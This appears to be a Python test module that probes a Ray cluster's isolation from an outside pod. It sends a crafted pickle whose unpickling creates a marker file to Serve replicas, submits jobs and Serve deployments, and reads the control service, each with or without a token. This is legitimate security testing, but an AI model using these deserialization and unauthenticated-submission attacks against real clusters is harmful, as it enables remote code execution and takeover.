"""What a foreign pod would try on Ray, with or without Ray's token.

Tests import it, and send its text into a pod: it needs nothing but the serving image. As a program it reads a `Plan`
as JSON from standard input; with the argument `attack` it prints a `Report` as JSON, with `reach` the list of the
addresses that take a connection.
"""

from __future__ import annotations

import builtins
import concurrent.futures
import dataclasses
import http.client
import importlib
import json
import os
import pickle
import socket
import subprocess
import sys
from typing import Any

CONNECT_S = 3
ANSWER_S = 10
DEPLOY_S = 60
NO_PROXY = [("grpc.enable_http_proxy", 0)]
JOB = json.dumps({"entrypoint": "true"})
JOBS = ("/api/jobs/", "/api/job_agent/jobs/")
"""Where the dashboard takes jobs, and where each node's agent does."""

GCS = """
import sys
from ray._raylet import GcsClient
GcsClient(address=sys.argv[1]).internal_kv_keys(b"", None, 5)
"""
"""Reads from Ray's control service; argument: its address."""


@dataclasses.dataclass(frozen=True)
class Plan:
    """What to attack.

    `addresses` are HOST:PORT of every listener, `gcs` and `client` those of Ray's control service and client server.
    `documents` are put at `proxy`. `marker` begins the names of the files that unpickled payloads make, on the machine
    that unpickles.
    """

    addresses: list[str]
    gcs: str
    client: str
    proxy: str
    documents: list[str]
    marker: str
    token: str | None = None


@dataclasses.dataclass(frozen=True)
class Report:
    """What came of it.

    `reached` are the addresses that took a connection, `pickles` the gRPC status by address, `jobs` the HTTP status by
    URL, `taken` the URLs that took a job, `documents` the HTTP status of each (0 without an answer), `gcs` the
    complaint of a failure, `client` the gRPC status.
    """

    reached: list[str]
    pickles: dict[str, str]
    jobs: dict[str, int]
    taken: list[str]
    documents: list[int]
    gcs: str
    client: str


def attack(plan: Plan) -> Report:
    """Tries everything."""
    # Here and not in the threads: Ray's modules import each other, and threads that begin at both ends lock up.
    importlib.import_module("ray.core.generated.ray_client_pb2_grpc")
    importlib.import_module("ray.serve.generated.serve_pb2_grpc")
    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        reached = [a for a, there in zip(plan.addresses, pool.map(reaches, plan.addresses), strict=True) if there]
        pickles = {a: pool.submit(send_pickle, a, f"{plan.marker}-{a.rpartition(':')[2]}", plan.token) for a in reached}
        jobs = {a + path: pool.submit(submit_job, a, path, plan.token) for a in reached for path in JOBS}
        gcs, client = pool.submit(read_state, plan.gcs, plan.token), pool.submit(use_client, plan.client, plan.token)
        answered = {url: answer for url, job in jobs.items() if (answer := job.result()) is not None}
        return Report(
            reached,
            {a: p.result() for a, p in pickles.items()},
            {url: status for url, (status, _) in answered.items()},
            [url for url, (_, taken) in answered.items() if taken],
            [put_document(plan.proxy, d, plan.token) for d in plan.documents],
            gcs.result(),
            client.result(),
        )


def reaches(address: str) -> bool:
    """Whether a TCP connection is made."""
    try:
        socket.create_connection(_pair(address), CONNECT_S).close()
    except OSError:
        return False
    return True


class Touch:
    """Unpickled, it makes a file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (builtins.open, (self.path, "w"))


def send_pickle(address: str, marker: str, token: str | None) -> str:
    """Sends what a Serve replica unpickles before anything else; returns the status of the answer."""
    import grpc
    from ray.serve.generated import serve_pb2, serve_pb2_grpc

    request = serve_pb2.ASGIRequest(pickled_request_metadata=pickle.dumps(Touch(marker)))  # ty: ignore[missing-attribute]
    with grpc.insecure_channel(address, options=NO_PROXY) as channel:
        try:
            stub = serve_pb2_grpc.ASGIServiceStub(channel)
            stub.HandleRequest(request, metadata=tuple(_bearer(token).items()), timeout=ANSWER_S)
        except grpc.RpcError as e:
            return str(e.code().name)  # ty: ignore[missing-attribute]
    return "OK"


def submit_job(address: str, path: str, token: str | None) -> tuple[int, bool] | None:
    """Submits a job; returns the status and whether the job was taken, or nothing from what speaks no HTTP."""
    answer = _ask("POST", address, path, JOB, token)
    return answer and (answer[0], answer[0] == 200 and "submission_id" in answer[1])


def put_document(address: str, document: str, token: str | None) -> int:
    """Puts a Serve document; returns the status, 0 without an answer."""
    if not reaches(address):
        return 0
    answer = _ask("PUT", address, "/api/serve/applications/", document, token, DEPLOY_S)
    return answer[0] if answer else 0


def use_client(address: str, token: str | None) -> str:
    """Begins to speak to Ray's client server; returns the status of the answer."""
    import grpc
    from ray.core.generated import ray_client_pb2, ray_client_pb2_grpc

    request = ray_client_pb2.ClusterInfoRequest(type=ray_client_pb2.ClusterInfoType.PING)  # ty: ignore[missing-attribute]
    with grpc.insecure_channel(address, options=NO_PROXY) as channel:
        try:
            stub = ray_client_pb2_grpc.RayletDriverStub(channel)
            stub.ClusterInfo(request, metadata=tuple(_bearer(token).items()), timeout=ANSWER_S)
        except grpc.RpcError as e:
            return str(e.code().name)  # ty: ignore[missing-attribute]
    return "OK"


def read_state(address: str, token: str | None) -> str:
    """Reads from Ray's control service; returns the end of its complaint, or nothing when that worked."""
    # Ray looks for a token in the home folder too.
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAY_")} | {"HOME": "/nonexistent"}
    if token is not None:
        env |= {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": token}
    command = [sys.executable, "-c", GCS, address]
    try:
        done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=90)
    except subprocess.TimeoutExpired:
        return "no answer"
    return done.stderr[-4000:] or f"exit code {done.returncode}" if done.returncode else ""


def _ask(
    method: str, address: str, path: str, body: str, token: str | None, seconds: float = ANSWER_S
) -> tuple[int, str] | None:
    connection = http.client.HTTPConnection(*_pair(address), timeout=seconds)
    try:
        connection.request(method, path, body, {"Content-Type": "application/json"} | _bearer(token))
        answer = connection.getresponse()
        return answer.status, answer.read().decode(errors="replace")
    except (OSError, http.client.HTTPException):
        return None
    finally:
        connection.close()


def _bearer(token: str | None) -> dict[str, str]:
    return {} if token is None else {"authorization": f"Bearer {token}"}


def _pair(address: str) -> tuple[str, int]:
    host, _, port = address.rpartition(":")
    return host.strip("[]"), int(port)


if __name__ == "__main__":
    plan = Plan(**json.load(sys.stdin))
    report = dataclasses.asdict(attack(plan)) if sys.argv[1] == "attack" else [a for a in plan.addresses if reaches(a)]
    print(json.dumps(report))
